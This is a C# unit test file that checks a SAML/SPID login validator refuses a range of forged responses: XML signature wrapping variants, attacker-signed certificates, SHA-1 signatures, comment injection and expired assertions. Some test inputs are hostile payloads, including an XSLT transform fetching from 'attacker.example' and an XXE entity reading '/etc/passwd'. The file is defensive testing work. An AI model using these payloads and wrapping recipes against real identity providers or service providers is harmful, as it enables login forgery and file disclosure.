using System.Security.Cryptography.X509Certificates;
using System.Security.Cryptography.Xml;
using System.Text;
using System.Xml;
using PenToscana.Modules.Identity.Features.Saml;

namespace PenToscana.UnitTests.Identity.Saml;

/// <summary>The attacks spid-sp-test adds to the official cases (XSW1-8 family, foreign KeyInfo, XSLT) and the hardening the issue asks for.</summary>
public sealed class ResponseAttackTests
{
    private static XmlElement Assertion(XmlDocument doc) => doc.DocumentElement!.Child(SamlNames.Assertion, "Assertion")!;

    private static void Refused(XmlDocument doc) => Refused(doc.OuterXml);

    private static void Refused(string xml)
    {
        var (identity, failure) = SamlTestIdp.Validate(xml);
        identity.ShouldBeNull();
        failure.ShouldNotBeNull();
    }

    private static XmlDocument EvilCopyOf(XmlDocument doc, out XmlElement evil)
    {
        evil = (XmlElement)Assertion(doc).CloneNode(true);
        foreach (var signature in evil.Children(SamlNames.Dsig, "Signature").ToList())
        {
            evil.RemoveChild(signature);
        }

        foreach (XmlElement value in evil.GetElementsByTagName("AttributeValue", SamlNames.Assertion))
        {
            if (value.InnerText.StartsWith("TINIT-", StringComparison.Ordinal))
            {
                value.InnerText = "TINIT-RSSMRA80A01D612Y";
            }
        }

        return doc;
    }

    [Fact]
    public void The_untampered_response_is_accepted() => SamlTestIdp.Validate(SamlTestIdp.Valid().OuterXml).Identity.ShouldNotBeNull();

    [Fact]
    public void An_unsigned_response_is_refused()
    {
        var values = SamlTestIdp.Defaults();
        values["Attributes"] = SamlTestIdp.Attributes(SamlTestIdp.DefaultAttributes, true);
        Refused(SamlTestIdp.Render("base.xml", values));
    }

    [Fact]
    public void Xsw_an_unsigned_evil_assertion_beside_the_signed_one_is_refused()
    {
        var doc = EvilCopyOf(SamlTestIdp.Valid(), out var evil);
        evil.SetAttribute("ID", "_evil");
        doc.DocumentElement!.InsertBefore(evil, Assertion(doc));
        Refused(doc);
    }

    [Fact]
    public void Xsw_the_signed_assertion_hidden_in_extensions_and_an_evil_one_in_its_place_is_refused()
    {
        var doc = SamlTestIdp.Valid();
        var original = Assertion(doc);
        EvilCopyOf(doc, out var evil);
        var extensions = doc.CreateElement("samlp", "Extensions", SamlNames.Protocol);
        doc.DocumentElement!.ReplaceChild(evil, original);
        extensions.AppendChild(original);
        doc.DocumentElement.InsertBefore(extensions, doc.DocumentElement.Child(SamlNames.Protocol, "Status"));
        Refused(doc);
    }

    [Fact]
    public void Xsw_an_evil_assertion_carrying_the_signed_ones_id_and_signature_is_refused()
    {
        var doc = SamlTestIdp.Valid();
        var original = Assertion(doc);
        EvilCopyOf(doc, out var evil);
        evil.InsertAfter(original.Child(SamlNames.Dsig, "Signature")!.CloneNode(true), evil.Child(SamlNames.Assertion, "Issuer"));
        original.RemoveChild(original.Child(SamlNames.Dsig, "Signature")!);
        doc.DocumentElement!.ReplaceChild(evil, original);
        var wrapper = doc.CreateElement("samlp", "Extensions", SamlNames.Protocol);
        wrapper.AppendChild(original);
        evil.Child(SamlNames.Dsig, "Signature")!.AppendChild(wrapper);
        Refused(doc);
    }

    [Fact]
    public void Xsw_a_signed_response_wrapping_an_unsigned_assertion_is_refused()
    {
        var values = SamlTestIdp.Defaults();
        values["Attributes"] = SamlTestIdp.Attributes(SamlTestIdp.DefaultAttributes, true);
        Refused(SamlTestIdp.Sign(SamlTestIdp.Render("base.xml", values), signResponse: true, signAssertion: false, SamlTestIdp.IdpCertificate));
    }

    [Fact]
    public void Xsw_the_signed_response_moved_inside_a_new_unsigned_response_is_refused()
    {
        var doc = SamlTestIdp.Valid();
        var outer = (XmlElement)doc.DocumentElement!.CloneNode(false);
        outer.SetAttribute("ID", "_outer");
        var inner = doc.DocumentElement;
        doc.RemoveChild(inner);
        doc.AppendChild(outer);
        outer.AppendChild(inner.Child(SamlNames.Assertion, "Issuer")!.CloneNode(true));
        outer.AppendChild(inner.Child(SamlNames.Protocol, "Status")!.CloneNode(true));
        var evil = (XmlElement)inner.Child(SamlNames.Assertion, "Assertion")!.CloneNode(true);
        evil.RemoveChild(evil.Child(SamlNames.Dsig, "Signature")!);
        evil.SetAttribute("ID", "_evil2");
        outer.AppendChild(evil);
        var extensions = doc.CreateElement("samlp", "Extensions", SamlNames.Protocol);
        extensions.AppendChild(inner);
        outer.InsertBefore(extensions, outer.Child(SamlNames.Protocol, "Status"));
        Refused(doc);
    }

    [Fact]
    public void A_signature_made_with_a_foreign_key_and_carrying_its_certificate_in_keyinfo_is_refused()
    {
        var values = SamlTestIdp.Defaults();
        values["Attributes"] = SamlTestIdp.Attributes(SamlTestIdp.DefaultAttributes, true);
        var xml = SamlTestIdp.Sign(SamlTestIdp.Render("base.xml", values), signResponse: true, signAssertion: true, SamlTestIdp.AttackerCertificate);
        xml.ShouldContain(Convert.ToBase64String(SamlTestIdp.AttackerCertificate.RawData));
        Refused(xml);
    }

    [Fact]
    public void A_signature_with_an_xslt_transform_is_refused()
    {
        var doc = SamlTestIdp.Valid();
        var transforms = Assertion(doc).GetElementsByTagName("Transforms", SamlNames.Dsig).Cast<XmlElement>().First();
        var xslt = doc.CreateElement("ds", "Transform", SamlNames.Dsig);
        xslt.SetAttribute("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116");
        xslt.InnerXml = "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('http://attacker.example/')\"/></xsl:template></xsl:stylesheet>";
        transforms.AppendChild(xslt);
        Refused(doc);
    }

    [Fact]
    public void A_response_with_a_doctype_is_refused_before_any_entity_is_expanded()
    {
        var xml = SamlTestIdp.Valid().OuterXml;
        Refused("<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + xml.Replace("AgID<", "&xxe;<", StringComparison.Ordinal));
    }

    [Fact]
    public void A_comment_inside_the_nameid_or_an_attribute_is_refused()
    {
        var values = SamlTestIdp.Defaults();
        values["Attributes"] = SamlTestIdp.Attributes(SamlTestIdp.DefaultAttributes, true).Replace("TINIT-GDASDV00A01H501J", "TINIT-GDASDV00A01H501J<!---->", StringComparison.Ordinal);
        values["NameID"] = "_name<!---->id";
        var xml = SamlTestIdp.Sign(SamlTestIdp.Render("base.xml", values), true, true, SamlTestIdp.IdpCertificate);
        Refused(xml);
    }

    [Fact]
    public void An_oversized_response_is_refused_with_413()
    {
        var huge = SamlTestIdp.Encode("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">" + new string(' ', 400_000) + "</samlp:Response>");
        var (parsed, failure) = ResponseValidator.Read(huge);
        parsed.ShouldBeNull();
        failure!.HttpStatus.ShouldBe(413);
    }

    [Fact]
    public void Garbage_instead_of_base64_is_refused_with_400()
    {
        var (parsed, failure) = ResponseValidator.Read("%%%not-base64%%%");
        parsed.ShouldBeNull();
        failure!.HttpStatus.ShouldBe(400);
    }

    [Fact]
    public void An_expired_assertion_is_refused()
    {
        var (identity, failure) = SamlTestIdp.Validate(SamlTestIdp.Valid().OuterXml, now: SamlTestIdp.Now.AddMinutes(10));
        identity.ShouldBeNull();
        failure.ShouldNotBeNull();
    }

    [Fact]
    public void An_assertion_that_is_not_yet_valid_beyond_the_clock_skew_is_refused()
    {
        var (identity, _) = SamlTestIdp.Validate(SamlTestIdp.Valid().OuterXml, now: SamlTestIdp.Now.AddMinutes(-4));
        identity.ShouldBeNull();
    }

    [Fact]
    public void Two_assertions_are_refused_even_if_both_are_signed()
    {
        var doc = SamlTestIdp.Valid();
        var second = (XmlElement)Assertion(doc).CloneNode(true);
        doc.DocumentElement!.AppendChild(second);
        Refused(doc);
    }

    [Fact]
    public void An_encrypted_assertion_is_refused()
    {
        var doc = SamlTestIdp.Valid();
        var encrypted = doc.CreateElement("saml", "EncryptedAssertion", SamlNames.Assertion);
        doc.DocumentElement!.ReplaceChild(encrypted, Assertion(doc));
        Refused(doc);
    }

    [Fact]
    public void A_sha1_signature_is_refused()
    {
        var values = SamlTestIdp.Defaults();
        values["Attributes"] = SamlTestIdp.Attributes(SamlTestIdp.DefaultAttributes, true);
        var doc = new XmlDocument { PreserveWhitespace = true };
        doc.LoadXml(SamlTestIdp.Render("base.xml", values));
        var assertion = Assertion(doc);
        var signed = new SignedXml(assertion) { SigningKey = SamlTestIdp.IdpCertificate.GetRSAPrivateKey() };
        signed.SignedInfo!.CanonicalizationMethod = SamlNames.ExcC14n;
        signed.SignedInfo.SignatureMethod = SignedXml.XmlDsigRSASHA1Url;
        var reference = new Reference("#" + assertion.GetAttribute("ID")) { DigestMethod = SignedXml.XmlDsigSHA1Url };
        reference.AddTransform(new XmlDsigEnvelopedSignatureTransform());
        reference.AddTransform(new XmlDsigExcC14NTransform());
        signed.AddReference(reference);
        signed.ComputeSignature();
        assertion.InsertAfter(doc.ImportNode(signed.GetXml(), true), assertion.Child(SamlNames.Assertion, "Issuer"));
        Refused(doc);
    }

    [Fact]
    public void A_response_to_another_request_is_refused()
    {
        var (identity, _) = SamlTestIdp.Validate(SamlTestIdp.Valid().OuterXml, SamlTestIdp.Request with { Id = "_another" });
        identity.ShouldBeNull();
    }

    [Fact]
    public void An_L2_request_with_exact_comparison_refuses_an_L3_answer()
    {
        var doc = SamlTestIdp.Valid(v => v["AuthnContextClassRef"] = "https://www.spid.gov.it/SpidL3");
        SamlTestIdp.Validate(doc.OuterXml, SamlTestIdp.Request with { Comparison = "exact" }).Identity.ShouldBeNull();
        SamlTestIdp.Validate(doc.OuterXml).Identity!.Level.ShouldBe(SpidLevel.L3);
    }

    [Fact]
    public void A_tampered_attribute_breaks_the_signature()
    {
        var xml = SamlTestIdp.Valid().OuterXml.Replace("TINIT-GDASDV00A01H501J", "TINIT-RSSMRA80A01D612Y", StringComparison.Ordinal);
        Refused(xml);
    }

    [Fact]
    public void The_malformed_signature_sample_of_spid_sp_test_does_not_crash_the_verifier()
    {
        var doc = SamlTestIdp.Valid();
        var value = Assertion(doc).GetElementsByTagName("SignatureValue", SamlNames.Dsig).Cast<XmlElement>().First();
        value.InnerText = "@@not base64@@";
        Refused(doc);
        Encoding.UTF8.GetByteCount(doc.OuterXml).ShouldBeGreaterThan(0);
    }
}
